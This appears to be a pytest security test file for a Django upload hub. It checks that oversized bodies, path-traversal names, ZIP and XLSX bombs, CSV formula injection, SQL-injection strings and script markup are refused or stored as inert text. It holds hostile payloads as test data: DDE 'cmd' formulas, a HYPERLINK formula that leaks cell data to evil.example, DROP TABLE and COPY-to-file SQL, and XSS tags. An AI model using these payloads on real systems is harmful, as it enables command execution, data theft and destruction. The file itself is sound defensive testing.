"""Hostile files and values through the real upload path: the API and the upload form, then a
real worker. Each is refused or stored as plain data with a message the supplier can act on;
none gets a 500, disturbs what is already stored, or is run, followed or shown unescaped."""

from __future__ import annotations

import csv as csv_module
import io
import re
import struct
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.db import connection
from django.test import Client

from datasets.models import Record, Supply
from hub.models import AuditEntry, User
from hub.uploads import upload_dir
from tests.conftest import sign_in
from tests.datasets.test_pipeline import (
    OFFENCE_HEADER,
    csv_bytes,
    offence_rows,
    supply,
    wait_for,
    world,  # noqa: F401 - the fixture, shared with the pipeline's tests
)
from tests.records import record_fields

HOSTILE_HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
METADATA = {
    "dataset": "police_crime_offence",
    "period_start": "2026-10-01",
    "period_end": "2026-10-31",
    "supplier_name": "Priya Shah",
    "supplier_contact": "priya.shah@gmp.example",
}


def raw_files() -> set[Path]:
    return set(upload_dir().glob("*")) if upload_dir().exists() else set()


def multipart(fields: dict[str, str], *, filename: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand: the test client would strip a path from the name."""
    boundary = "hostile-boundary-5c1e0d"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
        "Content-Type: text/csv\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


# -- size -------------------------------------------------------------------------------------


class EndlessBody(io.RawIOBase):
    """A request body that claims to be 2 GB and makes its bytes only as they are read."""

    def __init__(self, head: bytes, size: int):
        self.head = head
        self.size = size
        self.read_so_far = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        count = min(len(buffer), self.size - self.read_so_far)
        start = self.read_so_far
        data = self.head[start : start + count]
        data += b"a" * (count - len(data))
        buffer[:count] = data
        self.read_so_far += count
        return count


TWO_GB = 2 * 1024**3


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/api/v1/supplies/", "/supplies/new/"])
def test_a_2_gb_upload_is_refused_by_its_declared_size_before_its_body_is_read(
    client, personas, url
):
    sign_in(client, personas["police_supplier"])
    head, content_type = multipart(
        {**METADATA, "agency": str(personas["police_supplier"].memberships.first().agency_id)},
        filename="huge.csv",
        content=b"",
    )
    head = head[: head.rindex(b"\r\n--")]  # the file part opened, its 2 GB still to come
    body = EndlessBody(head, TWO_GB)
    before = raw_files()

    response = client.generic(
        "POST", url, b"", CONTENT_TYPE=content_type,
        CONTENT_LENGTH=str(TWO_GB), **{"wsgi.input": io.BufferedReader(body)},
    )  # fmt: skip

    limit = settings.HUB_MAX_UPLOAD_BYTES // 2**20
    message = f"The file is larger than the {limit} MB limit. Split it into smaller periods"
    if url.startswith("/api/"):
        assert response.status_code == 413
        assert response.json()["detail"].startswith(message)
    else:
        assert response.status_code == 200  # the form again, with the reason on the file
        assert message in response.content.decode()
    assert body.read_so_far < 1024 * 1024
    assert raw_files() == before
    assert not Supply.objects.exists()


@pytest.mark.django_db
def test_an_empty_file_is_refused_at_upload_and_not_kept(api_client, personas):
    before = raw_files()
    api_client.force_authenticate(personas["police_supplier"])
    upload = io.BytesIO(b"")
    upload.name = "october.csv"

    response = api_client.post(
        "/api/v1/supplies/", {**METADATA, "file": upload}, format="multipart"
    )

    assert response.status_code == 400
    assert response.json()["file"] == ["The submitted file is empty."]
    assert raw_files() == before


# -- file names -------------------------------------------------------------------------------

HOSTILE_NAMES = [
    "../../etc/passwd.csv",
    "/etc/passwd.csv",
    "..\\..\\windows\\win.ini.csv",
    "C:\\Users\\Public\\crimes.csv",
    "cri\x00mes\x07.csv",
    "%2e%2e%2f%2e%2e%2fetc%2fcrimes.csv",
    "c" * 400 + ".csv",
    "Crîmes ☃ 犯罪 \u202eqkp.csv",
    "<script>alert(1)</script>.csv",
]


@pytest.mark.django_db
@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_stored_file_never_follows_the_supplied_name(client, personas, name):
    sign_in(client, personas["police_supplier"])
    files_dir = Path(settings.HUB_FILES_DIR)
    before = set(files_dir.rglob("*"))
    body, content_type = multipart(METADATA, filename=name, content=b"crime_ref\r\nCR1\r\n")

    response = client.generic("POST", "/api/v1/supplies/", body, content_type=content_type)

    assert response.status_code == 201, response.content
    supply_row = Supply.objects.get(pk=response.json()["id"])
    stored = Path(supply_row.raw_path)
    assert stored.parent == upload_dir() and re.fullmatch(r"[0-9a-f]{32}\.enc", stored.name)
    assert set(files_dir.rglob("*")) - before <= {stored, upload_dir()}
    shown = supply_row.original_filename
    assert not {"/", "\\", "\x00"} & set(shown) and len(shown) <= 255 and shown.endswith(".csv")

    page = client.get(f"/supplies/{supply_row.pk}/").content.decode()
    assert "<script>alert(1)" not in page


# -- files the worker reads -------------------------------------------------------------------


def _zip(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def _zip_declaring(data: bytes, size: int, *, central: bool = True) -> bytes:
    """A ZIP of ``data`` whose local header (and central directory, unless told not to)
    declares ``size`` bytes for it."""
    archive = bytearray(_zip("october.csv", data))
    struct.pack_into("<I", archive, 22, size)  # the local header's uncompressed size
    if central:
        struct.pack_into("<I", archive, archive.rindex(b"PK\x01\x02") + 24, size)
    return bytes(archive)


def _zip_marked_encrypted() -> bytes:
    """A ZIP whose member is marked as encrypted, in both of its headers."""
    archive = bytearray(_zip("october.csv", HEADER_LINE))
    for flags_at in (6, archive.rindex(b"PK\x01\x02") + 8):
        archive[flags_at] |= 0x01
    return bytes(archive)


def _zip_with_damaged_data() -> bytes:
    """A ZIP whose headers are true but whose compressed data has been overwritten."""
    archive = bytearray(_zip("october.csv", HEADER_LINE * 200))
    start = 30 + len("october.csv")  # after the local header and the member's name
    archive[start : start + 64] = b"\xff" * 64
    return bytes(archive)


def _xlsx(rows: list[list[str]]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_with_sheet(sheet_xml: bytes) -> bytes:
    """A real workbook whose first worksheet's XML is replaced."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx([["crime_ref"], ["CR1"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            archive.writestr(
                info.filename, sheet_xml if info.filename.endswith("sheet1.xml") else data
            )
    return buffer.getvalue()


SHEET = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet '
    b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)


def _xlsx_bomb() -> bytes:
    """A workbook of a few hundred kilobytes whose sheet inflates to 300 MB."""
    padding = b" " * (300 * 1024 * 1024)
    return _xlsx_with_sheet(SHEET + padding + b"</sheetData></worksheet>")


def _xlsx_shared_strings_bomb() -> bytes:
    """A workbook whose shared-strings table inflates to 300 MB."""
    workbook = _xlsx([["crime_ref"], ["CR1"]])
    source = zipfile.ZipFile(io.BytesIO(workbook))
    strings = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst '
        b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + b"<si><t>CR1</t></si>" * (15 * 1024 * 1024)
        + b"</sst>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info))
        archive.writestr("xl/sharedStrings.xml", strings)
    return buffer.getvalue()


def _xlsx_of_declared_millions() -> bytes:
    """A sheet that declares 16,384 columns by 1,048,576 rows and fills three cells."""
    header = "".join(
        f'<c r="{col}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for col, name in zip("ABC", ["Crime reference number", "HO offence code",
                                     "Date committed from"], strict=True)
    )  # fmt: skip
    xml = (
        SHEET.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
        + f'<row r="1">{header}</row>'.encode()
        + b'<row r="2"><c r="A2" t="inlineStr"><is><t>CR1</t></is></c>'
        + b'<c r="B2" t="inlineStr"><is><t>028/01</t></is></c>'
        + b'<c r="C2" t="inlineStr"><is><t>01/10/2026</t></is></c></row>'
        + b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        + b"</sheetData></worksheet>"
    )
    return _xlsx_with_sheet(xml)


HEADER_LINE = ",".join(OFFENCE_HEADER).encode() + b"\r\n"
HOSTILE_FILES = {
    "binary junk named .csv": (
        "october.csv",
        lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 64,
        "The file is not a CSV: it holds NUL bytes",
    ),
    "NUL bytes in a text file": (
        "october.csv",
        lambda: HEADER_LINE + b"CR1,028/01,01/10/2026,22:30,x\x00y,WN1 1AA,,,N\r\n",
        "The file is not a CSV: it holds NUL bytes",
    ),
    "UTF-16 text": (
        "october.csv",
        lambda: HEADER_LINE.decode().encode("utf-16"),
        'saved as UTF-16 or "Unicode text"',
    ),
    "UTF-8 mixed with Windows-1252": (
        "october.csv",
        lambda: (
            HEADER_LINE
            + "CR1,028/01,01/10/2026,22:30,1 Rue Café,WN1 1AA,,,N\r\n".encode()
            + "CR2,028/01,01/10/2026,22:30,2 Rue Café,WN1 1AA,,,N\r\n".encode("cp1252")
        ),
        "The file mixes character encodings",
    ),
    "a row of 100,000 columns": (
        "october.csv",
        lambda: HEADER_LINE + b"CR1" + b",x" * 100_000 + b"\r\n",
        "Expected 9 fields in line 2 (the first data row) but saw more",
    ),
    "a header of 100,000 columns": (
        "october.csv",
        lambda: ",".join(f"c{n}" for n in range(100_000)).encode() + b"\r\n1\r\n",
        "too long to be a header",
    ),
    "a header of 2,000 columns": (
        "october.csv",
        lambda: HEADER_LINE.rstrip() + b"".join(b",x%d" % n for n in range(2_000)) + b"\r\n",
        "The header row has 2,009 columns; the hub reads at most 1,000",
    ),
    "an unclosed quote": (
        "october.csv",
        lambda: HEADER_LINE + b'CR1,028/01,"01/10/2026,22:30,x,WN1 1AA,,,N\r\n',
        "quotes are closed",
    ),
    "a ZIP bomb": (
        "october.zip",
        lambda: _zip("october.csv", HEADER_LINE + b"0" * (200 * 1024 * 1024)),
        "The ZIP file is compressed",
    ),
    "a ZIP whose headers understate the size of its CSV": (
        "october.zip",
        lambda: _zip_declaring(csv_bytes(OFFENCE_HEADER, [["CR1"] * 9] * 50), 100),
        "The ZIP file is damaged or is not what it claims to be",
    ),
    "a ZIP whose local header alone understates the size of its CSV": (
        "october.zip",
        lambda: _zip_declaring(csv_bytes(OFFENCE_HEADER, [["CR1"] * 9] * 50), 100, central=False),
        "The ZIP file is damaged or is not what it claims to be",
    ),
    "a ZIP bomb that declares a small size": (
        "october.zip",
        lambda: _zip_declaring(HEADER_LINE + b"0" * (200 * 1024 * 1024), 1024 * 1024),
        "The ZIP file is damaged or is not what it claims to be",
    ),
    "a ZIP whose compressed data is damaged": (
        "october.zip",
        _zip_with_damaged_data,
        "The ZIP file is damaged or is not what it claims to be",
    ),
    "a ZIP whose CSV is encrypted": (
        "october.zip",
        _zip_marked_encrypted,
        "The CSV inside the ZIP is encrypted or compressed in a way the hub cannot read",
    ),
    "an XLSX bomb": ("october.xlsx", _xlsx_bomb, "The Excel workbook is compressed"),
    "an XLSX of a huge shared-strings table": (
        "october.xlsx",
        _xlsx_shared_strings_bomb,
        "The Excel workbook is compressed",
    ),
    "a workbook that is not one": ("october.xlsx", lambda: b"PK\x03\x04junk" * 100, "damaged"),
}


@pytest.fixture
def loaded(api_client, world):  # noqa: F811 - the fixture imported above
    """A completed supply for the period, which no hostile supply may disturb."""
    supply_id = supply(api_client, world["police_supplier"], csv_bytes(OFFENCE_HEADER,
                                                                      offence_rows(5)))  # fmt: skip
    assert wait_for(api_client, supply_id)["status"] == "completed"
    return supply_id, sorted(
        map(record_fields, Record.objects.filter(supply_id=supply_id)), key=str
    )


def assert_undisturbed(loaded_supply) -> None:
    supply_id, records = loaded_supply
    kept = Supply.objects.get(pk=supply_id)
    assert kept.superseded_by_id is None and kept.status == "completed"
    stored = map(record_fields, Record.objects.filter(supply_id=supply_id))
    assert sorted(stored, key=str) == records


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("case", list(HOSTILE_FILES))
def test_a_hostile_file_is_rejected_whole_with_what_to_do(api_client, world, loaded, case):  # noqa: F811
    name, make, message = HOSTILE_FILES[case]

    supply_id = supply(api_client, world["police_supplier"], make(), name=name)

    body = wait_for(api_client, supply_id, timeout=120)
    report = api_client.get(f"/api/v1/supplies/{supply_id}/report/").json()
    assert body["status"] == "rejected", report
    assert message in report["problems"][0]
    assert not Record.objects.filter(supply_id=supply_id).exists()
    assert_undisturbed(loaded)


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_sheet_declaring_millions_of_cells_is_read_by_the_cells_it_has(api_client, world):  # noqa: F811
    supply_id = supply(
        api_client, world["police_supplier"], _xlsx_of_declared_millions(), name="october.xlsx"
    )

    body = wait_for(api_client, supply_id, timeout=120)
    assert (body["status"], body["record_count"], body["accepted_count"]) == ("completed", 1, 1)
    assert record_fields(Record.objects.get(supply_id=supply_id))["crime_ref"] == "CR1"


# -- values -----------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ASB_TEXT = ["incident_type", "waste_size", "vehicle_make", "vehicle_model", "vehicle_age"]


def assert_no_formula(cells) -> None:
    running = [cell for cell in cells if isinstance(cell, str) and cell.startswith(FORMULA_START)]
    assert running == []


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_formulas_in_every_text_field_are_stored_as_data_and_never_exported_as_formulas(
    api_client, supplied
):
    from datasets.demo import last_month
    from tests.sharing.test_extracts import download, extract

    start, end = last_month()
    postcodes = [r.postcode for r in Record.objects.filter(dataset__slug="council_asb")[:14]]
    rows = [
        [f"=F{number}+1", FORMULAS[number % len(FORMULAS)], *[FORMULAS[(number + k) % 7]
         for k in range(1, 5)], f"{start:%d/%m/%Y}", "22:15", postcode]
        for number, postcode in enumerate(postcodes)
    ]  # fmt: skip
    header = ["incident_ref", *ASB_TEXT, "incident_date", "incident_time", "postcode"]
    supply_id = supply(
        api_client, supplied["council_supplier"], csv_bytes(header, rows), dataset="council_asb",
        name="asb.csv", period_start=str(start), period_end=str(end),
        caveats=FORMULAS[0], field_notes=FORMULAS[2],
    )  # fmt: skip
    assert wait_for(api_client, supply_id)["accepted_count"] == len(rows)

    records = map(record_fields, Record.objects.filter(supply_id=supply_id))
    stored = {fields["incident_ref"]: fields for fields in records}
    for row in rows:  # as supplied, less the spaces around each value that validation trims
        assert [stored[row[0]][name] for name in ASB_TEXT] == [value.strip() for value in row[1:6]]

    csv_state = extract(api_client, supplied["analyst"], dataset="council_asb", format="csv")
    archive = zipfile.ZipFile(io.BytesIO(download(api_client, csv_state)))
    data_name = next(name for name in archive.namelist() if name.endswith(".csv"))
    exported = list(csv_module.reader(io.TextIOWrapper(archive.open(data_name), encoding="utf-8")))
    ref = exported[0].index("incident_ref")
    mine = [row for row in exported if row[ref].startswith("'=F")]
    assert len(mine) == len(rows)
    assert_no_formula(cell for row in exported for cell in row)
    assert {row[exported[0].index("incident_type")] for row in mine} == {
        "'" + value.strip() for value in FORMULAS
    }

    xlsx_state = extract(api_client, supplied["analyst"], dataset="council_asb", format="xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(download(api_client, xlsx_state)))
    for sheet in workbook.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        # Text, numbers, dates and flags; never a formula ("f").
        assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b"}
        assert_no_formula(cell.value for cell in cells)
    metadata = "\n".join(str(c.value) for c in workbook["Metadata"]["A"] if c.value)
    assert f"Caveats: {FORMULAS[0]}" in metadata  # shown as the supplier wrote it, as text

    client = Client()
    sign_in(client, supplied["analyst"])
    counts = client.get(
        "/workspace/counts.csv",
        {"dataset": "council_asb", "breakdown": "incident_type",
         "period_start": str(start), "period_end": str(end)},
    )  # fmt: skip
    assert counts.status_code == 200
    assert_no_formula(cell for row in csv_module.reader(io.StringIO(counts.content.decode()))
                      for cell in row)  # fmt: skip


SQL_VALUES = [
    "'; DROP TABLE datasets_record; --",
    "Robert'); DROP TABLE hub_user;--",
    "1' OR '1'='1",
    "$$; SELECT pg_sleep(30); $$",
    "\\x27; COPY hub_user TO '/tmp/users.csv'; --",
    "E'\\\\'; DELETE FROM hub_auditentry; --",
]


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_sql_looking_values_are_stored_verbatim_and_run_nowhere(api_client, world):  # noqa: F811
    rows = offence_rows(len(SQL_VALUES))
    for row, value in zip(rows, SQL_VALUES, strict=True):
        row[0] = value  # the crime reference, the supply's key
    header = [*OFFENCE_HEADER, "Property stolen"]
    rows = [[*row, value] for row, value in zip(rows, SQL_VALUES, strict=True)]
    audit_before = AuditEntry.objects.count()

    supply_id = supply(
        api_client, world["police_supplier"], csv_bytes(header, rows),
        caveats=SQL_VALUES[0], supplier_name=SQL_VALUES[1],
    )  # fmt: skip

    assert wait_for(api_client, supply_id)["accepted_count"] == len(SQL_VALUES)
    stored = Record.objects.filter(supply_id=supply_id).order_by("row_number")
    fields = [record_fields(r) for r in stored]
    assert [(f["crime_ref"], f["property_stolen"]) for f in fields] == [
        (value, value) for value in SQL_VALUES
    ]
    saved = Supply.objects.get(pk=supply_id)
    assert (saved.caveats, saved.supplier_name) == (SQL_VALUES[0], SQL_VALUES[1])
    assert User.objects.filter(username="police_supplier").exists()
    assert AuditEntry.objects.count() > audit_before
    with connection.cursor() as cursor:
        cursor.execute("SELECT to_regclass('datasets_record'), to_regclass('hub_user')")
        assert cursor.fetchone() == ("datasets_record", "hub_user")


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_single_cell_of_50_mb_rejects_its_row_only(api_client, world, loaded):  # noqa: F811
    rows = offence_rows(3)
    rows[1][4] = "x" * (50 * 1024 * 1024)  # row 3's address

    supply_id = supply(api_client, world["police_supplier"], csv_bytes(OFFENCE_HEADER, rows))

    body = wait_for(api_client, supply_id, timeout=180)
    assert (body["status"], body["accepted_count"], body["rejected_count"]) == ("completed", 2, 1)
    report = api_client.get(f"/api/v1/supplies/{supply_id}/report/").json()
    assert [(e["row"], e["field"], e["code"]) for e in report["errors"]] == [
        (3, "address", "too_long")
    ]
    assert "Longer than 1000 characters" in report["errors"][0]["message"]
    assert sorted(
        Record.objects.filter(supply_id=supply_id).values_list("row_number", flat=True)
    ) == [2, 4]


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_header_only_file_is_rejected_and_the_periods_records_stay(api_client, world, loaded):  # noqa: F811
    supply_id = supply(api_client, world["police_supplier"], HEADER_LINE)

    body = wait_for(api_client, supply_id)

    report = api_client.get(f"/api/v1/supplies/{supply_id}/report/").json()
    assert body["status"] == "rejected"
    assert report["problems"] == [
        "The file has its header row but no rows of data, so there is nothing to load. Supply "
        "the file with its rows; if the period had no records, tell the co-ordinator rather "
        "than supplying an empty file."
    ]
    assert_undisturbed(loaded)


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_file_whose_every_row_is_rejected_is_rejected_and_nothing_is_superseded(
    api_client,
    world,  # noqa: F811 - the fixture imported above
    loaded,
):
    rows = offence_rows(3)
    for row in rows:
        row[2] = "31/02/2026"  # no such date

    supply_id = supply(api_client, world["police_supplier"], csv_bytes(OFFENCE_HEADER, rows))

    body = wait_for(api_client, supply_id)
    report = api_client.get(f"/api/v1/supplies/{supply_id}/report/").json()
    counts = (body["record_count"], body["accepted_count"], body["rejected_count"])
    assert (body["status"], counts) == ("rejected", (3, 0, 3)), report
    assert report["problems"][0].startswith("Every row of the file was rejected (3 of 3)")
    assert [(e["row"], e["field"], e["code"]) for e in report["errors"]] == [
        (row, "committed_from_date", "not_a_date") for row in (2, 3, 4)
    ]
    assert report["header_mapping"]["Crime reference number"] == "crime_ref"
    assert not Record.objects.filter(supply_id=supply_id).exists()
    assert_undisturbed(loaded)
    client = Client()
    sign_in(client, world["police_supplier"])
    page = client.get(f"/supplies/{supply_id}/").content.decode()
    assert "Every row of the file was rejected" in page and "is not a date" in page
    rejected = b"".join(client.get(f"/supplies/{supply_id}/rejected.csv").streaming_content)
    assert len(rejected.decode("utf-8-sig").splitlines()) == 2 + len(rows)


@pytest.fixture
def small_chunks(own_queue, tmp_path, monkeypatch, personas):
    """A worker of this test's own that reads files ten rows at a time."""
    from sanitise.demo import demo_gazetteer_load
    from tests.conftest import start_worker, stop_worker

    demo_gazetteer_load()
    monkeypatch.setenv("HUB_CHUNK_ROWS", "10")
    process = start_worker(own_queue, tmp_path / "worker.log")
    yield personas
    stop_worker(process)


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_chunk_whose_every_row_is_rejected_leaves_the_rest_to_load(api_client, small_chunks):
    rows = offence_rows(30)
    for row in rows[10:20]:  # the second chunk, whole
        row[2] = "31/02/2026"

    supply_id = supply(api_client, small_chunks["police_supplier"], csv_bytes(OFFENCE_HEADER, rows))

    body = wait_for(api_client, supply_id)
    counts = (body["record_count"], body["accepted_count"], body["rejected_count"])
    assert (body["status"], counts) == ("completed", (30, 20, 10))
    loaded_rows = Record.objects.filter(supply_id=supply_id).values_list("row_number", flat=True)
    assert sorted(loaded_rows) == [*range(2, 12), *range(22, 32)]


# -- markup -----------------------------------------------------------------------------------


def hostile_supply(personas) -> Supply:
    """A processed supply whose supplier wrote markup into every free-text field."""
    from datasets.demo import last_month
    from datasets.models import Dataset
    from hub.services import audit_record
    from tests.conftest import supply_row

    supplier = personas["police_supplier"]
    User.objects.filter(pk=supplier.pk).update(first_name=HOSTILE_HTML, last_name=HOSTILE_HTML)
    start, end = last_month()
    hostile = supply_row(
        dataset=Dataset.objects.get(slug="police_crime_offence"),
        agency=supplier.memberships.first().agency,
        uploaded_by=supplier,
        period_start=start,
        period_end=end,
        status="completed",
        record_count=1,
        accepted_count=1,
        rejected_count=0,
        progress=100,
        supplier_name=HOSTILE_HTML,
        supplier_contact=HOSTILE_HTML,
        caveats=HOSTILE_HTML,
        field_notes=HOSTILE_HTML,
        coding_systems=HOSTILE_HTML,
        geocoding_method=HOSTILE_HTML,
        original_filename=HOSTILE_HTML + ".csv",
        report={"problems": [HOSTILE_HTML], "dropped_columns": [HOSTILE_HTML],
                "errors": [{"row": 2, "field": "crime_ref", "code": "x", "message": HOSTILE_HTML}],
                "warnings": [], "completeness": {"crime_ref": 100.0}},
    )  # fmt: skip
    audit_record(
        actor=supplier, action="supply_uploaded", target=hostile, detail={"file": HOSTILE_HTML}
    )
    return hostile


def pages_showing(supply_id) -> dict[str, list[tuple[str, bool]]]:
    """Per persona, the pages that list or show the supply, and whether they show its text."""
    return {
        "police_supplier": [("/supplies/", False), (f"/supplies/{supply_id}/", True)],
        "coordinator": [
            (f"/supplies/{supply_id}/", True), ("/governance/quality/", False),
            ("/governance/audit/", True), ("/governance/users/", True),
        ],
        "analyst": [("/workspace/datasets/police_crime_offence/", True)],
    }  # fmt: skip


@pytest.mark.django_db
def test_markup_in_free_text_is_shown_escaped_on_every_page(client, personas):
    hostile = hostile_supply(personas)
    for username, urls in pages_showing(hostile.pk).items():
        sign_in(client, personas[username])
        for url, shows_text in urls:
            response = client.get(url)
            page = response.content.decode()
            assert response.status_code == 200, url
            assert "<script>alert(" not in page and "<img src=x" not in page, url
            assert ("&lt;script&gt;alert(" in page) == shows_text, url


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_page_showing_supplied_markup_runs_it(page, live_server, personas):
    from tests.conftest import browser_sign_in

    hostile = hostile_supply(personas)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for username, urls in pages_showing(hostile.pk).items():
        page.context.clear_cookies()
        browser_sign_in(page, live_server, username)
        for url, shows_text in urls:
            page.goto(f"{live_server.url}{url}")
            page.wait_for_load_state("load")
            assert (HOSTILE_HTML in page.locator("body").inner_text()) == shows_text, url
    assert dialogs == []
